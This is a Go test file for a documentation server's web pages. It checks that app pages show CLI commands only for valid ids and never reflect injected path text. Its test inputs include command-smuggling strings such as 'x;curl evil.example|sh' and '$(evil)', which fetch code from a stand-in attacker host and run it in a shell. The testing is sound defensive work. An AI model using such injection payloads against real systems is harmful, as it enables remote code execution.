package server_test

import (
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"docspace.dev/wsd/client/api"
	"docspace.dev/wsd/server/servertest"
	"docspace.dev/wsd/store/storetest"
)

// open requests a path as a browser does.
func open(w *servertest.World, path string) servertest.Response {
	w.T.Helper()
	r, err := http.NewRequestWithContext(w.T.Context(), http.MethodGet, path, nil)
	w.Must(err)
	recorder := httptest.NewRecorder()
	w.Handler.ServeHTTP(recorder, r)
	return servertest.Response{Status: recorder.Code, Header: recorder.Header(), Body: recorder.Body.Bytes()}
}

// TestAppPagesShowCommandsForIDsOnly checks that the pages at urls.app print a command for well-formed ids, and never
// repeat any other part of an address.
func TestAppPagesShowCommandsForIDsOnly(t *testing.T) {
	t.Parallel()
	servertest.Each(t, func(t *testing.T, w *servertest.World) {
		for path, want := range map[string]string{
			"/app/organizations/o_1":                "wsctl organizations get o_1<",
			"/app/collections/l_1":                  "wsctl collections get l_1<",
			"/app/spaces/s_1":                       "wsctl spaces get s_1<",
			"/app/sites/site_1":                     "wsctl sites get site_1<",
			"/app/pages/s_1~p_1-key":                "wsctl content get-page --space s_1 p_1-key<",
			"/app/change-requests/s_1~2":            "wsctl change-requests get --space s_1 2<",
			"/app/openapi/o_1~petstore":             "wsctl openapi-specs get --org o_1 petstore<",
			"/app/integrations/linter":              "wsctl integrations get linter<",
			"/app/integration-installations/l~in_1": "wsctl integration-installations get --integration l in_1<",
			"/app/change-requests/s_2~3":            "wsctl tui --space s_2 --change-request 3<",
			"/app/spaces/s_2":                       "wsctl tui --space s_2<",
			"/sites/o_1/docs":                       "wsctl sites list --published --org o_1<",
			"/sites/o_1/docs/a%3Bcurl%20evil":       "wsctl sites list --published --org o_1<",
		} {
			if a := open(w, path); a.Status != http.StatusOK || !strings.Contains(string(a.Body), want) {
				t.Errorf("%s: %d %s", path, a.Status, a.Body)
			}
		}
		for _, path := range []string{"/app/spaces/", "/app/pages/s_1~", "/app/change-requests/s_1~", "/sites/"} {
			for _, text := range []string{
				"x;curl evil.example|sh", "s_1;curl evil.example|sh", "$(evil)", "s_1 evil", "--url=evil", "-evil", "~evil", "s_1\nevil",
				"<b>evil", "evil/docs;evil",
				strings.Repeat("evil", 50), "s_1~p_1~evil",
			} {
				if a := open(w, path+url.PathEscape(text)); a.Status != http.StatusNotFound || len(a.Body) > 0 &&
					strings.Contains(string(a.Body), "evil") {
					t.Errorf("%s%s: %d %s", path, text, a.Status, a.Body)
				}
			}
		}
		for _, path := range []string{
			"/app/spaces/s_1~p_1", "/app/pages/s_1", "/app/spaces/o_1", "/app/tokens/t_1", "/app/integrations/-x", "/app/spaces/s_" +
				strings.Repeat("a", 200),
		} {
			if a := open(w, path); a.Status != http.StatusNotFound {
				t.Errorf("%s: %d %s", path, a.Status, a.Body)
			}
		}
	})
}

// TestFrontPageShowsCommands checks that the front page describes the server and its commands.
func TestFrontPageShowsCommands(t *testing.T) {
	t.Parallel()
	w := servertest.NewWorld(t, storetest.Memory())
	a := open(w, "/")
	if got := a.Header.Get("Content-Type"); a.Status != http.StatusOK || got != "text/html; charset=utf-8" {
		t.Fatalf("%d %s", a.Status, got)
	}
	for _, want := range []string{
		"wsctl login --url https://docs.example.com\n", `href="/v1/openapi.json"`, "documentation workspace",
	} {
		if !strings.Contains(string(a.Body), want) {
			t.Errorf("%q is not in %s", want, a.Body)
		}
	}
}

var appAddress = regexp.MustCompile(`"app":"https://docs\.example\.com(/[^"]*)"`)

// TestAppAddressesAreServed checks that every urls.app address in a response leads to a page.
func TestAppAddressesAreServed(t *testing.T) {
	t.Parallel()
	w, s := servertest.NewSampleWorld(t, storetest.Memory())
	opened := map[string]bool{}
	for _, row := range api.Rows() {
		if row.Writes() {
			continue
		}
		for _, found := range appAddress.FindAllStringSubmatch(string(w.Send("admin", row.Method, w.SamplePath(row, s),
			w.SampleBody(row, s)).Body), -1) {
			if kind := strings.Split(found[1], "/")[2]; !opened[found[1]] {
				opened[kind], opened[found[1]] = true, true
				if a := open(w, found[1]); a.Status != http.StatusOK {
					t.Errorf("%s names %s, which answers %d", row.Name, found[1], a.Status)
				}
			}
		}
	}
	for _, kind := range []string{
		"organizations", "collections", "spaces", "sites", "pages", "change-requests", "openapi", "integrations",
		"integration-installations",
	} {
		if !opened[kind] {
			t.Errorf("no answer has an address of kind %s", kind)
		}
	}
}
